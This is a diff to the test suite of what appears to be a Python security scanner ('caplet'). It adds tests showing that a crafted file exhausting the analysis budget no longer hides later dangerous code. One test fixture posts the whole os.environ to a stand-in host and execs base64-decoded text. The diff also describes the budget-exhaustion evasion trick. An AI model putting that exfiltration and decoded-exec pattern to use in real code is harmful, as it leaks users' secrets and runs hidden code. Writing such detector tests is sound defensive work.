@@ -6,13 +6,17 @@ from __future__ import annotations
 import ast
 import random
 import textwrap
+from pathlib import Path
 
 import pytest
 
+from caplet._findings import Severity
 from caplet._scan import _flow_memo
 from caplet._scan._filescan import FileScan
 from caplet._scan._flow import Flow
 from caplet._scan._grants import NO_GRANTS
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_tree
 from caplet._scan._sources import Source
 from caplet._scan._syntax import Survey, survey
 from caplet._scan._visitor import RuleVisitor
@@ -125,6 +129,10 @@ def _crafted(cycle: int, uses: int) -> str:
 def test_a_crafted_file_spends_its_budget_and_stops(monkeypatch: pytest.MonkeyPatch) -> None:
     # Each use asks a question whose rounds never become exact: without the file's
     # budget every question would cost thousands of frames, uses times over.
+    # (attack9: past a spent budget the answers are kept for good, so the first question
+    # over its own budget already makes the rest cheap; each question as costly as the
+    # file's budget to spend that one)
+    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", _flow_memo.FILE_STEPS)
     flow, surveyed = fresh(_crafted(300, 2_000))
     before = _flow_memo.CUTS["file budget"]
     for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
@@ -133,15 +141,26 @@ def test_a_crafted_file_spends_its_budget_and_stops(monkeypatch: pytest.MonkeyPa
     assert _flow_memo.CUTS["file budget"] > before
 
 
+def test_a_crafted_file_spends_a_questions_budget_and_stops() -> None:
+    flow, surveyed = fresh(_crafted(300, 2_000))
+    before = _flow_memo.CUTS["question budget"]
+    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
+        flow.labels(call)
+    assert flow._file_steps <= _flow_memo.QUESTION_STEPS + len(surveyed.nodes)
+    assert _flow_memo.CUTS["question budget"] > before
+
+
 def test_without_the_file_budget_the_crafted_file_would_cost_much_more(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     bound = _flow_memo.FILE_STEPS
     monkeypatch.setattr(_flow_memo, "FILE_STEPS", 10**9)
-    flow, surveyed = fresh(_crafted(300, 20))
+    # (and without each question's: attack9's spent budget keeps its answers for good)
+    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", 10**9)
+    flow, surveyed = fresh(_crafted(300, 3))
     for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
         flow.labels(call)
-    # 20 questions already pass the bound that 2,000 stay under
+    # 3 questions already pass the bound that 2,000 stay under
     assert flow._file_steps > bound
 
 
@@ -203,3 +222,48 @@ def test_random_programs_answer_the_same_in_any_order(seed: int) -> None:
         random.Random(order).shuffle(asked)
         answers.append({name: flow.name_labels(name, 0) for name in asked})
     assert all(a == answers[0] for a in answers), source
+
+
+# -- attack9: a spent budget must not empty the answers asked after it -------------------
+_AFTER_THE_CRAFTED_PART = """
+import base64, os, requests
+k = os.environ
+t = dict(k)
+requests.post('https://x.example/u', data=t)
+p = base64.b64decode('aW1wb3J0IG9z')
+q = p
+exec(q)
+"""
+
+
+def test_questions_after_the_file_budget_is_spent_are_still_answered(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # attack9: 2,000 uses of a cycle longer than the depth bound spent the file's budget,
+    # and every later question was answered empty: the environment posted and the
+    # decoded exec after them (a 27 KB file) were no DANGER, which 51d254d reported.
+    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", _flow_memo.FILE_STEPS)
+    flow, surveyed = fresh(_crafted(300, 2_000) + _AFTER_THE_CRAFTED_PART)
+    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
+        flow.labels(call)
+    assert flow._file_steps >= _flow_memo.FILE_STEPS  # the budget was spent
+    assert Source.DECODED in sources(flow.name_labels("q", 0))
+    assert Source.ENVIRONMENT in sources(flow.name_labels("t", 0))
+
+
+def test_a_question_over_its_own_budget_still_reaches_a_decoded_part(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # the decoded part after the costly one in the same expression
+    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", 100)
+    source = _chain(300) + "\nimport base64\nq = x299 + base64.b64decode('aQ==')\n"
+    flow, _ = fresh(source)
+    assert Source.DECODED in sources(flow.name_labels("q", 0))
+
+
+def test_a_scan_past_the_spent_budget_reports_what_follows(tmp_path: Path) -> None:
+    text = _crafted(300, 2_000) + _AFTER_THE_CRAFTED_PART
+    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    found = {f.rule_id for f in report.findings if f.severity is Severity.DANGER}
+    assert {"CPL-THR-001", "CPL-THR-006"} <= found
